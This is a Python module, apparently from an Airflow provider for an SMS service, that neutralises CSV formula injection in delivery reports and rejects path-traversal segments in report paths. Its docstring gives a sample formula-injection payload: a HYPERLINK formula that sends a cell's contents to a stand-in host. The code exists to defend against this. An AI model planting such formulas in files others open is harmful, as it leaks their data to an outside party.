"""What goes into a delivery-report file, and where it may go.

**Cells.** People open report CSVs in a spreadsheet, and anyone who received an SMS can write a reply:
``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` in a reply or a name would run as a formula. As OWASP
recommends (CSV Injection), a text cell that starts with ``=``, ``+``, ``-``, ``@``, tab or CR gets a
leading ``'``, which spreadsheets show as text and hide; the text itself is kept (the ``'`` is the only
change) and the csv module quotes the cell. Free-text columns (``name``, ``content``, ``subject``) are
always neutralised so; in the other columns a number keeps its form (``+886900000678``, ``-1.5`` stay
usable numbers) and only a value that is not one is neutralised. JSON Lines is not a spreadsheet format
and is written unchanged.

**Paths.** A templated ``path`` (``reports/{{ dag_run.conf['name'] }}.csv``) must not climb out of its
folder: a ``..`` segment, raw or percent-encoded, is refused.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from urllib.parse import unquote

from airflow_provider_every8d.protocol.errors import Every8dValidationError

FREE_TEXT_COLUMNS = frozenset({"name", "content", "subject"})
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d[\d .()\-]*")
"""A phone number or a signed number: starts with a sign but is no formula."""


def neutralised(text: str, *, free_text: bool = True) -> str:
    """``text`` with a ``'`` in front when a spreadsheet would read it as a formula (see above)."""
    if not text.startswith(FORMULA_START):
        return text
    if not free_text and _NUMBER.fullmatch(text):
        return text
    return "'" + text


def spreadsheet_row(columns: Sequence[str], values: Sequence[object]) -> list[object]:
    """A CSV row whose text cells are :func:`neutralised`; numbers and None as they are."""
    return [neutralised(value, free_text=column in FREE_TEXT_COLUMNS) if isinstance(value, str) else value
            for column, value in zip(columns, values, strict=True)]


def check_report_path(path: str, field: str = "path") -> str:
    """``path`` (a local path or a URL) unchanged; :class:`Every8dValidationError` naming ``field`` when
    one of its segments is ``..`` (also as ``%2e%2e``)."""
    for text in (path, unquote(path)):
        if any(segment == ".." for segment in re.split(r"[/\\]", text)):
            raise Every8dValidationError(field, f"{path[:200]!r} has a '..' segment; give a path inside the "
                                         "report folder")
    return path
